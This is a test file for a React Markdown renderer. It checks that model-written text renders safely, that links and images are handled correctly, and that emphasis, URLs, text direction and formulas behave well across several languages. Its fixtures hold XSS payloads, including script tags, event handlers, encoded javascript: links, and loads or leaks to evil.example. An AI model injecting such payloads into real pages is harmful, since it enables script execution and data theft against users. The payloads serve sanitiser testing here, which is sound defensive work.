import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

const allowedTags = new Set(
  (
    'a blockquote br button code del details div em h1 h2 h3 h4 h5 h6 hr input kbd label li mark ol p path pre section span strong sub summary sup svg ' +
    'table tbody td th thead tr u ul'
  ).split(' '),
);

const payloads: Record<string, string> = {
  script: 'Hi <script>alert(1)</script> there\n\n<script src="https://evil.example/x.js"></script>',
  handlers: '<img src=x onerror=alert(1)> <svg/onload=alert(1)> <a href="#" onclick=alert(1)>x</a>',
  frames: '<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="x"></object><embed src="x">',
  forms: '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  style: '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example>',
  base: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  javascriptLink:
    '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1)) <javascript:alert(1)>',
  encodedLink: '[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](\u0001javascript:alert(1))',
  otherSchemes:
    '[a](vbscript:x) [b](data:text/html,<b>x) [c](file:///etc/passwd) [d](blob:x) [e](intent:x) <tel:1>',
  relative: '[a](/session/x) [b](//evil.example) [c](?x) [d](#/s/other) [e](\\\\evil.example) [f](./x)',
  references: '[a][1] ![b][1]\n\n[1]: javascript:alert(1) "x"',
  images: '![a](https://evil.example/?q=secret) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c](x.png)',
  imageInLink: '[![alt](https://evil.example/a.png)](javascript:alert(1))',
  autolinks:
    'https://example.com www.example.com me@example.com <https://example.com/?a="b"> javascript:alert(1)',
  comments:
    'a <!-- <script>alert(1)</script> --> b <!--> <script>alert(1)</script> -->\n\n<![CDATA[<b>x</b>]]> <?x <b>?>',
  attributes:
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"") ![" onerror=alert(1)](https://a.example)',
  code: '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```\n`<script>`',
  table: '| <script>x</script> | [a](javascript:x) |\n|---|---|\n| ![i](https://evil.example) | <b>x</b> |',
  footnote: 'a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  mathml:
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math><svg><a xlink:href="javascript:x">y</a></svg>',
  listed: '- [ ] <script>alert(1)</script>\n- [x] [y](javascript:alert(1))\n\n  <img src=x>',
};

describe('only safe content renders, whatever a model writes', () => {
  for (const [name, payload] of Object.entries(payloads)) {
    test(`${name}, cut at every place`, () => {
      for (let end = 1; end <= payload.length; end += 1) expectSafe(render(payload.slice(0, end)));
    });
    test(`${name}, from every place`, () => {
      for (let start = 1; start < payload.length; start += 1) expectSafe(render(payload.slice(start)));
    });
  }

  test('the check itself detects unsafe content', () => {
    for (const bad of [
      '<img alt="">',
      '<a href="javascript:x">y</a>',
      '<p onclick="x">y</p>',
      '<a href="/x">y</a>',
    ]) {
      expect(() => expectSafe(bad)).toThrow();
    }
  });
});

test('a link opens a new tab without access to this one', () => {
  expect(render('[x](https://example.com)')).toContain(
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
  );
});

test('an image becomes a link with its description, and is not fetched', () => {
  const html = render('![a cat](https://example.com/cat.png)');
  expect(html).toContain('href="https://example.com/cat.png"');
  expect(html).toContain('a cat</a>');
  expect(html).not.toContain('<img');
});

test('a link with a forbidden scheme stays text', () => {
  expect(render('[x](javascript:alert(1))')).toBe('<p dir="auto">x</p>');
});

test('HTML is shown as it was written', () => {
  expect(render('a <b>c</b>')).toBe('<p dir="auto">a &lt;b&gt;c&lt;/b&gt;</p>');
});

test('each text is the only child of its element, because a translator may replace it', () => {
  const texts = [
    '- **a** b\n  *c*\n  - d `e` f\n\n> g **h**\n\n[^1] i\n\n[^1]: j *k*',
    '- [ ] a\n- [x] **b** c\n\n| a *b* | c |\n|---|---|\n| d `e` | <u>f</u> g |',
    '# a *b*\n\nc<br>d <b>e</b> ![f](g) [h *i*](https://example.com)\nj  \nk',
    'a sentence of **some** length, and more of it. '.repeat(200),
    ...Object.values(payloads),
  ];
  for (const text of texts) {
    const html = renderRaw(text);
    expect(html, text).not.toMatch(/(?:<\/\w+>|<(?:br|hr|input)[^>]*>)[^<]/);
    expect(html, text).not.toMatch(/>[^<]+<[a-z]/i);
  }
});

test('heading levels have no gaps, whatever depths a model skips', () => {
  const ranks = (text: string): readonly string[] =>
    Array.from(
      render(text).matchAll(/<h(\d)[^>]*data-depth="(\d)"/g),
      ([, rank, depth]) => `${rank} for ${depth}`,
    );
  expect(ranks('### a\n\nb\n\n##### c\n\n# d\n\n- ### e\n\nf\n---\n\n# g')).toEqual([
    '2 for 3',
    '3 for 5',
    '2 for 1',
    '3 for 3',
    '3 for 2',
    '2 for 1',
  ]);
  expect(ranks('# a\n## b\n### c\n#### d\n##### e\n###### f').at(-1)).toBe('6 for 6');
});

test('a range is not struck through', () => {
  for (const text of [
    '料金は100~200円、送料は300~400円です。',
    '10~20도, 30~40도',
    'It is 20~25°C, or 68~77°F.',
    '~a~',
  ]) {
    expect(render(text)).not.toContain('<del>');
  }
  expect(render('~~a~~ 価格は~~100円~~200円です')).toMatch(/<del>a<\/del>.*<del>100円<\/del>200円/);
});

test('emphasis works beside Chinese, Japanese and Korean letters', () => {
  for (const text of [
    'これは**「重要」**な点です。',
    '**東京（とうきょう）**は日本の首都です。',
    '**서울(Seoul)**은 수도입니다.',
    '这是**“重点”**，也是**《书名》**的内容。',
    '**注意：**必须。**「A」**と**「B」**',
    '**https://example.com/a**を見る',
  ]) {
    expect(render(text)).not.toContain('*');
    expect(render(text)).toContain('<strong>');
  }
  expect(render('*「重要」*な')).toContain('<em>「重要」</em>な');
});

describe('a URL ends where the sentence continues', () => {
  const sentences: Record<string, string> = {
    '詳しくはhttps://example.com/docsを参照してください。': 'https://example.com/docs',
    'https://example.comを見て': 'https://example.com',
    '公式サイトはhttps://example.com/です。': 'https://example.com/',
    '请看https://example.com/a?b=c。然后': 'https://example.com/a?b=c',
    '（https://example.com/a）': 'https://example.com/a',
    '「https://example.com/a」と': 'https://example.com/a',
    'https://example.com/a、https': 'https://example.com/a',
    '사이트 https://example.com/a에서': 'https://example.com/a',
    'www.example.comを': 'http://www.example.com',
    'ดูที่ https://example.com/aครับ': 'https://example.com/a',
    'انظر https://example.com/a، ثم': 'https://example.com/a',
    '“https://example.com/a” and': 'https://example.com/a',
    '[出典: https://example.com/aを参照]': 'https://example.com/a',
    'https://example.com/a.を': 'https://example.com/a',
    '| a |\n|---|\n| https://example.com/aを |': 'https://example.com/a',
    'https://ru.wikipedia.org/wiki/Москва и':
      'https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0',
    'https://例え.jp/aを': 'https://%E4%BE%8B%E3%81%88.jp/a',
    '[x](https://example.com/を)': 'https://example.com/%E3%82%92',
  };
  for (const [text, address] of Object.entries(sentences)) {
    test(text, () => expect(hrefs(text)).toEqual([address]));
  }

  test('and markup after it is markup', () => {
    expect(render('https://example.com/aを**見て**')).toContain('を<strong>見て</strong>');
  });
});

test('code runs from left to right, and each block in the direction of its own text', () => {
  const html = render('مرحبا `a()`\n\nhello\n\n- أول\n\n> x\n\n```\ny\n```\n\n| z |\n|---|\n\n# h');
  expect(html).toContain('<code dir="ltr">a()</code>');
  for (const start of [
    '<p dir="auto">م',
    '<p dir="auto">h',
    '<li dir="auto">',
    '<blockquote dir="auto">',
    '<pre dir="ltr"',
  ]) {
    expect(html).toContain(start);
  }
  expect(html).toContain('<table dir="auto">');
  expect(html).toContain('<h2 dir="auto" data-depth="1">');
});

test('a definition in a container applies to the whole text', () => {
  expect(hrefs('> [b]: https://x.example/\n\nSee [b].')).toEqual(['https://x.example/']);
});

test('footnotes are numbered by their first call, and a call without a definition stays text', () => {
  const html = render('a[^b] c[^a] d[^x]\n\n[^a]: one\n[^b]: two [^a]');
  expect(html).toContain('a<sup>1</sup> c<sup>2</sup> d[^x]');
  expect(html).toMatch(/two <sup>2<\/sup>.*one/);
});

test('a text too long to be read at once is read in pieces and shown in full', () => {
  const words = Array.from({ length: 1_200 }, (_, index) => `word ${index} **bold ${index}**`).join(' ');
  expect(render(words).replaceAll(/<[^>]*>/g, '')).toBe(words.replaceAll('**', ''));
  const row = render(`| a |\n|---|\n| ${words} |\n| last |`);
  expect(row).toContain('bold 1199');
  expect(row).toContain('<td>last</td>');
});

describe('HTML for which markdown has no marks', () => {
  test('renders when it is a bare tag', () => {
    expect(text('H<sub>2</sub>O x<sup>**2**</sup> <kbd>A</kbd>')).toBe(
      'H<sub>2</sub>O x<sup><strong>2</strong></sup> <kbd>A</kbd>',
    );
    expect(render('| a |\n|---|\n| one<br>two<br/>three |')).toContain('one<br/>two<br/>three');
  });

  test('stays text when it is not closed or has attributes', () => {
    expect(text('a<u>b <sup class="x">c</sup> <sub onclick=x>d</sub>')).toBe(
      'a&lt;u&gt;b &lt;sup class=&quot;x&quot;&gt;c&lt;/sup&gt; &lt;sub onclick=x&gt;d&lt;/sub&gt;',
    );
    expect(render('<details open>\n\nx\n\n</details>')).not.toContain('<details');
  });

  test('can be folded, with markdown inside', () => {
    const html = render('a\n<details>\n<summary>More *b*</summary>\n\n- c\n- d\n</details>\ne');
    expect(html).toMatch(
      /<summary>More <em>b<\/em><\/summary><ul>.*c.*d.*<\/ul><\/details><p dir="auto">e<\/p>/,
    );
    expect(render('<details><summary>More</summary>\nb')).toContain(
      '<summary>More</summary><p>b</p></details>',
    );
    expect(render('- a\n\n  <details>\n  b\n  </details>\n- c')).toMatch(
      /<details.*<p>b<\/p><\/details><\/li><li/,
    );
  });
});

describe('a formula stays as it was written', () => {
  for (const formula of ['\\(\\pi r^2\\)', '$x_1 = a_i * b_i *$', '$$x_1*$$', '\\[ x_1 * y_1 * z \\]']) {
    test(formula, () => {
      expect(text(`a ${formula} and *b*`)).toBe(`a <code dir="ltr">${formula}</code> and <em>b</em>`);
    });
  }

  test('on its own lines', () => {
    const lines = '$$\na_1 * b\n+ c * d\n= e\n$$\n';
    expect(render(`text\n${lines}*more*`)).toContain(`<span class="lines">${lines}</span>`);
    expect(render(`\\[\n\\int\n\\]\n*more*`)).toContain('<em>more</em>');
  });

  test('on lines that begin or end with its marks', () => {
    for (const lines of ['$$\\begin{aligned}\na *b* &= c\n\\end{aligned}$$\n', '\\[ x = a *b*\n+ c \\]\n'])
      expect(render(`text\n${lines}*more*`)).toContain(
        `<span class="lines">${lines.replaceAll('&', '&amp;')}</span>`,
      );
    for (const plain of ['$$ is *money*', '\\[1 *a*', '\\[a_b *a*', '$$x_1$$ and *a*'])
      expect(render(`${plain}\n\n*more*`)).toContain('<em>more</em>');
  });

  test('of a few letters and signs too', () => {
    for (const formula of [
      '$x$',
      '$n + 1$',
      '$a=b$',
      '$2x + 3 = 7$',
      '$f(x)$',
      '$|A| < n$',
      '$5 < 6$',
      '$20$',
      '$α$',
    ]) {
      expect(text(`Let ${formula}, ${formula}s and ${formula}. Then *b*`)).toBe(
        `Let ${[', ', 's and ', '.'].map((after) => `<code dir="ltr">${formula.replace('<', '&lt;')}</code>${after}`).join('')} Then <em>b</em>`,
      );
    }
    expect(text('関数$f(x)$は*正*')).toContain('<code dir="ltr">$f(x)$</code>は');
  });

  test('and money or shell variables are no formula', () => {
    for (const plain of [
      'It is $5 and $10, *a* or $5-$10.',
      'From $5 to 10$, and *a* 5$ or 10$.',
      '$5/$6 *a* $5k-$10k, A$5 and NZ$6, US$5=C$7',
      '$a$b *a* $i, $j, $k',
      'I have $5 (or 10$) *a*',
      '*a* $HOME/$USER $HOME_DIR/$USER_DIR and $PATH:$HOME',
      'It is $5 or *a* $6_000.',
      'US$5_000 and *a* A$6_000',
      '$HOME_DIR *a* $PATH_X',
      '\\[1\\] *a*',
    ]) {
      expect(text(plain)).toContain('<em>a</em>');
      expect(text(plain)).not.toContain('<code');
    }
  });
});

/** Renders a text that is one paragraph and returns the content of that paragraph. */
function text(markdown: string): string {
  return /^<p dir="auto">(.*)<\/p>$/s.exec(render(markdown))?.[1] ?? '';
}

function hrefs(text: string): readonly string[] {
  return Array.from(render(text).matchAll(/href="([^"]*)"/g), ([, href = '']) => href);
}

/** Renders a text, without the elements that only hold a text. */
function render(text: string): string {
  return renderRaw(text).replaceAll(/<span>([^<]*)<\/span>/g, '$1');
}

function renderRaw(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} />);
}

function expectSafe(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(
    /<([a-z][^\s/>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    expect(allowedTags, html).toContain(name);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([^\s=>]+)(?:="([^"]*)")?/g)) {
      expect(attribute, html).not.toMatch(
        /^on|^(?:src|srcset|srcdoc|action|formaction|data|style|xlink:href)$/i,
      );
      if (attribute === 'href') expect(value, html).toMatch(/^(?:https?:\/\/|mailto:)/i);
    }
  }
  // The pattern above would not match any other opening of a tag.
  expect(html.replaceAll(/<\/?[a-z][^<>]*>/gi, ''), html).not.toContain('<');
}
